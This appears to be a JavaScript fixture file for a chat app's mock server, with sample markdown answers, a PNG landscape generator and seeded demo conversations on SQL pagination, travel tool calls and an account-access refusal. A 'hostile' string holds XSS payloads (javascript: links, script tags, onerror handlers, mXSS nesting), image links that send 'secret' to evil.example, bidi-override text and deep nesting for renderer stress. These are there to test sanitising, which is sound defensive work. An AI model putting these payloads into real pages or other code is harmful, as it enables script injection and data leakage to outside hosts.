// Texts and pictures for the mock server.
import * as zlib from 'node:zlib';

const { crc32, deflateSync } = zlib; // crc32: not before Node 20.15

const words = 'the of a conversation message page index row model stream answer question reader writer memory disk node shard token cursor lease budget time order newest oldest quiet careful small fast stable plain honest'.split(' ');

const rich = `Keyset pagination asks for *the rows after this one* instead of *rows 10,000 to 10,020*, so the database never counts what it skips.

## Why offsets get slow

With \`OFFSET 100000\` the database walks past 100,000 rows and throws them away. The cost grows with the page number:

| Method | Page 1 | Page 5,000 | Stable under inserts |
|:-------|-------:|-----------:|:--------------------:|
| \`OFFSET\` | 0.4 ms | 210 ms | no |
| Keyset | 0.4 ms | 0.4 ms | yes |

## How it looks

\`\`\`sql
SELECT id, created_at, body
  FROM messages
 WHERE conversation_id = $1
   AND (created_at, id) < ($2, $3)   -- the last row of the page before
 ORDER BY created_at DESC, id DESC
 LIMIT 30;
\`\`\`

Three things to get right:

1. **The order must be total.** Add the primary key as a tie-breaker.
2. **The index must match it**, column for column.
3. Give the client an *opaque* cursor, so that you may change your mind:
   - encode both values,
   - check them when they come back.

> You cannot jump to page 317 this way. In a chat nobody wants to.

See the [PostgreSQL documentation](https://www.postgresql.org/docs/current/queries-limit.html) for the fine print.
`;

const code = `Here is a small version with no dependencies:

\`\`\`ts
export async function* lines(stream: ReadableStream<Uint8Array>) {
  const decoder = new TextDecoder();
  let rest = '';
  for await (const chunk of stream) {
    rest += decoder.decode(chunk, { stream: true });
    const parts = rest.split('\\n');
    rest = parts.pop() ?? '';
    yield* parts; // complete lines only
  }
  if (rest) yield rest;
}
\`\`\`

It keeps at most one unfinished line in memory, however long the stream is.

- [x] handles a chunk that ends inside a character
- [x] yields the last line without a newline
- [ ] handles \`\\r\\n\`
`;

const hostile = `[click](javascript:alert(1)) and [tab](java\tscript:alert(1)) and [entity](javascript&colon;alert(1)) and [data](data:text/html,<script>alert(1)</script>)

<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 2"> <svg onload="window.pwned=3"></svg>
<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=4></style></mglyph></table></mtext></math>

![pixel](https://evil.example/?q=secret) ![proto](//evil.example/x.png) ![ref][evil]

[evil]: https://evil.example/ref.png

\`\`\`"><img src=x onerror=window.pwned=5>
code with a lie: \u202e}{ and zero\u200bwidth
\`\`\`

https://user:pass@evil.example/ <https://ok.example/> mail <me@example.org> text \u202eREVERSED\u202c end

${'>'.repeat(10_000)} deep

${'- '.repeat(10_000)} deep

${'['.repeat(10_000)} ${'*a '.repeat(10_000)} ${'**a _b '.repeat(5_000)}
`;

const demo = `Hello! I am Confab's **built-in demo**. No model server is connected yet, so I can only show what answers look like.

## Connect a model

- **Ollama**: start it, then press *Look for one on this machine*.
- **OpenAI**: set \`OPENAI_API_KEY\` and restart.

\`\`\`bash
OLLAMA_BASE_URL=http://127.0.0.1:11434 ./run.sh
\`\`\`
`;

const long = Array.from({ length: 170 }, (_, i) => `## Part ${i + 1}\n\n${giantText(i * 2 + 1)}\n\n- one **point**\n- another \`point\`\n\n\`\`\`js\nconst part = ${i + 1};\nconsole.log(part * 2);\n\`\`\`\n`).join('\n');

const hour = 3600;
const dayLong = 86400;

export const thoughts = `The person asks why \`OFFSET\` is slow on a late page. They seem to know SQL, so I can be direct.

**What happens with OFFSET.** The database has to produce and throw away every row before the page. That is linear in the page number; an index does not help, because the rows still have to be walked.

**What to offer instead.** Keyset pagination: remember the last row of the page before and ask for the rows after it. Things that people get wrong:

1. The order must be total, so add the primary key.
2. Row comparison \`(a, b) < ($1, $2)\` uses the index; the version with \`OR\` often does not.

A small table with times would make the point faster than words. I should also say what is lost: jumping to a page by its number.
`;

export const refusal = 'I can’t help with getting into somebody else’s account. If it is your own, the provider’s recovery page is the way in, and I can help you to find it.';

export const toolCalls = [
  { name: 'get_weather', arguments: '{"city":"Ljubljana","days":3,"unit":"celsius"}' },
  { name: 'search_trains', arguments: '{"from":"Vienna","to":"Ljubljana","date":"2025-06-12","passengers":2}' },
];

const weather = JSON.stringify({ city: 'Ljubljana', days: [{ date: '2025-06-12', high: 26, low: 14, sky: 'clear' }, { date: '2025-06-13', high: 24, low: 15, sky: 'showers' }, { date: '2025-06-14', high: 27, low: 15, sky: 'clear' }] });

// A PNG of a landscape, so that the mock has pictures without keeping any. `n` chooses the light.
export function picture(n, width = 960, height = 640) {
  const skies = [[[255, 196, 120], [92, 120, 190]], [[190, 222, 240], [62, 128, 190]], [[236, 150, 150], [58, 52, 108]], [[222, 232, 214], [120, 170, 160]]];
  const [low, high] = skies[n % skies.length];
  const raw = Buffer.alloc((width * 3 + 1) * height);
  const ridge = (x, i) => height * (0.42 + i * 0.13) + Math.sin(x / (90 + i * 47) + i * 2 + n) * (34 - i * 4) + Math.sin(x / (31 + i * 13) + n * 3 + i) * 11;
  for (let y = 0; y < height; y++) {
    let at = y * (width * 3 + 1) + 1;
    for (let x = 0; x < width; x++) {
      let t = 1 - y / (height * 0.62);
      let colour = low.map((from, c) => from + (high[c] - from) * Math.max(0, Math.min(1, t)));
      if (Math.hypot(x - width * (0.3 + (n % 3) * 0.2), y - height * 0.3) < 44) colour = [255, 246, 222];
      for (let i = 0; i < 4; i++) if (y > ridge(x, i)) colour = low.map((from, c) => (from * 0.45 + high[c] * 0.55) * (0.86 - i * 0.21));
      for (const c of colour) raw[at++] = c;
    }
  }
  const chunk = (type, data) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const out = Buffer.alloc(body.length + 8);
    out.writeUInt32BE(data.length, 0);
    body.copy(out, 4);
    out.writeUInt32BE(crc(body), body.length + 4);
    return out;
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]), chunk('IHDR', head), chunk('IDAT', deflateSync(raw)), chunk('IEND', Buffer.alloc(0))]);
}

function crc(bytes) {
  if (crc32) return crc32(bytes);
  let sum = ~0;
  for (const byte of bytes) {
    sum ^= byte;
    for (let i = 0; i < 8; i++) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
  }
  return ~sum >>> 0;
}

export const answers = {
  for(prompt, connected) {
    if (!connected) return demo;
    if (prompt.includes('hostile')) return hostile;
    if (prompt.includes('long')) return long;
    if (prompt.includes('forever')) return rich.repeat(200);
    if (prompt.includes('code')) return code;
    return rich;
  },
};

export function giantText(n) {
  let seed = n * 2654435761;
  const next = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff);
  const count = n % 2 ? 20 + (next() % 120) : 4 + (next() % 20);
  let text = `Message ${n + 1}:`;
  for (let i = 0; i < count; i++) text += ` ${words[next() % words.length]}${n % 2 && i % 31 === 30 && i < count - 5 ? '.\n\n' : ''}`;
  return `${text}.`;
}

const usage = (input, output, thought = 0) => ({ input_tokens: input, input_tokens_details: { cached_tokens: input > 500 ? input - 212 : 0 }, output_tokens: output, output_tokens_details: { reasoning_tokens: thought }, total_tokens: input + output });
const timing = (first, output, speed) => ({ first_token_ms: first, duration_ms: first + Math.round((output / speed) * 1000), tokens_per_second: speed });

// A turn is [role, text, more fields] or ['item', the item].
export const seedConversations = [
  { title: 'Why is page 5,000 slow?', age: 0.1 * hour, turns: [
    ['user', 'Why is OFFSET slow on page 5,000, and what should I do instead?'],
    ['item', { type: 'reasoning', status: 'completed', summary: [{ type: 'summary_text', text: thoughts }], timing: { first_token_ms: 0, duration_ms: 11_800, tokens_per_second: null } }],
    ['assistant', '`OFFSET` reads every row that it skips, so page 5,000 costs five thousand pages. Remember the **last row of the page before** and ask for what comes after it:\n\n```sql\nSELECT id, created_at, body\n  FROM messages\n WHERE (created_at, id) < ($1, $2)\n ORDER BY created_at DESC, id DESC\n LIMIT 30;\n```\n\nThe same index entry is then the start of the scan, whatever the page. What you give up is jumping to a page by its number.', { usage: usage(1412, 812, 391), timing: timing(1240, 812, 41.3) }],
  ] },
  { title: 'Two days in Ljubljana', age: 0.15 * hour, turns: [
    ['user', 'We are two and take the train from Vienna on 12 June. What will the weather be, and when do trains go?'],
    ['item', { type: 'reasoning', status: 'completed', summary: [{ type: 'summary_text', text: 'Two questions, two tools. They do not depend on each other.' }] }],
    ['item', { type: 'function_call', status: 'completed', call_id: 'call_1', ...toolCalls[0] }],
    ['item', { type: 'function_call', status: 'completed', call_id: 'call_2', ...toolCalls[1] }],
    ['item', { type: 'function_call_output', status: 'completed', call_id: 'call_1', output: weather }],
    ['item', { type: 'function_call_output', status: 'completed', call_id: 'call_2', output: '07:58 EC 151, direct, 6 h 04 min\n12:58 EC 159, one change in Graz' }],
    ['assistant', 'Pack for **summer, and one umbrella**: clear and 26 °C on Thursday, showers on Friday, clear again on Saturday.\n\nThe direct train leaves Vienna at **07:58** and is there after six hours.', { usage: usage(968, 143), timing: timing(610, 143, 38.6) }],
    ['user', 'Book the direct one, please.'],
    ['item', { type: 'function_call', status: 'completed', call_id: 'call_3', name: 'book_train', arguments: '{"train":"EC 151","date":"2025-06-12","passengers":[{"name":"Ada Lovelace"},{"name":"Charles Babbage"}]}' }],
  ] },
  { title: 'Which photo for the cover?', age: 0.16 * hour, turns: [
    ['images', 'Which of these would you put on the cover, and why?', ['file-1', 'file-2', 'file-3']],
    ['assistant', 'The **third**. The ridges step back into haze, so a title in the upper third has calm ground to stand on, and the warm sky will print well on uncoated paper.', { usage: usage(2210, 96), timing: timing(2300, 96, 36.2) }],
    ['images', 'Here it is alone. Would you crop it?', ['file-3']],
    ['assistant', 'A little: take the lowest dark ridge away, and the sun comes to stand on a third.', { usage: usage(3002, 58), timing: timing(870, 58, 40.1) }],
    ['images', '', ['file-gone']],
    ['assistant', 'That one is no longer here, so I cannot say.'],
  ] },
  { title: 'A locked account', age: 0.18 * hour, turns: [
    ['user', 'Get me into my neighbour’s mail account.'],
    ['item', { type: 'message', role: 'assistant', status: 'completed', model: 'llama3.3:70b', content: [{ type: 'refusal', refusal }], usage: usage(88, 41), timing: timing(430, 41, 39.9) }],
  ] },
  { title: 'Keyset pagination', age: 0.2 * hour, turns: [['user', 'Why is OFFSET slow on page 5,000, and what should I do instead?'], ['assistant', rich], ['user', 'And how do I read a stream line by line without holding it all in memory? Some code please.'], ['assistant', code]] },
  { title: 'Naming a small boat', age: 1.5 * hour, turns: [['user', 'Three names for a small wooden sailing boat, please.'], ['assistant', '**Wren**, because she is small and loud in a wind.\n\n**Second Breakfast**, for the owner who is never in a hurry.\n\n**Halcyon**, the old word for a calm sea.']] },
  { title: 'Sourdough without a scale', age: 2 * hour, turns: [['user', 'Can I bake sourdough without a scale?'], ['assistant', 'Yes. Use one part starter, two parts water and three parts flour by *volume*, and judge by feel.']] },
  { title: 'A model that was not there', age: 3 * hour, turns: [['user', 'Summarise the attached minutes.']], last: { id: 'resp_failed', status: 'failed', model: 'llama3.3:70b', error: { code: 'upstream_unreachable', message: 'The model server “ollama” at http://127.0.0.1:11434 cannot be reached: connection refused. Start it, or choose another model.' }, incomplete_details: null } },
  { title: 'Stopped halfway', age: 4 * hour, turns: [['user', 'Tell me everything about the Hanseatic League.'], ['assistant', 'The Hanseatic League was a network of merchant towns that', { status: 'incomplete', response_id: 'resp_stopped', usage: usage(61, 14), timing: timing(520, 14, 37.5) }]], last: { id: 'resp_stopped', status: 'cancelled', model: 'llama3.3:70b', error: null, incomplete_details: null } },
  { title: 'A very long paste', age: 5 * hour, turns: [['user', 'Log:\n' + 'GET /v1/models 200 1.2 ms\n'.repeat(6000)], ['assistant', 'All of these requests succeeded.']] },
  { title: 'Letter to the landlord', age: dayLong + hour, turns: [['user', 'Help me write a polite letter about the heating.'], ['assistant', 'Dear Ms Brandt,\n\nthe heating in the living room has not worked since Monday…']] },
  { title: 'Hostile text', age: dayLong + 2 * hour, turns: [['user', 'Show me hostile \u202etxet'], ['assistant', hostile]] },
  { title: 'Regular expressions for dates, and a title that is far too long to fit', age: dayLong + 3 * hour, turns: [['user', 'Regex for ISO dates?'], ['assistant', '`^\\d{4}-\\d{2}-\\d{2}$`']] },
  { title: 'Trip to Ljubljana', age: 2 * dayLong, turns: [['user', 'Two days in Ljubljana?'], ['assistant', 'Start at the Dragon Bridge.']] },
  { title: 'Explaining monads to a gardener', age: 4 * dayLong, turns: [['user', 'Monads?'], ['assistant', 'Think of pots.']] },
];
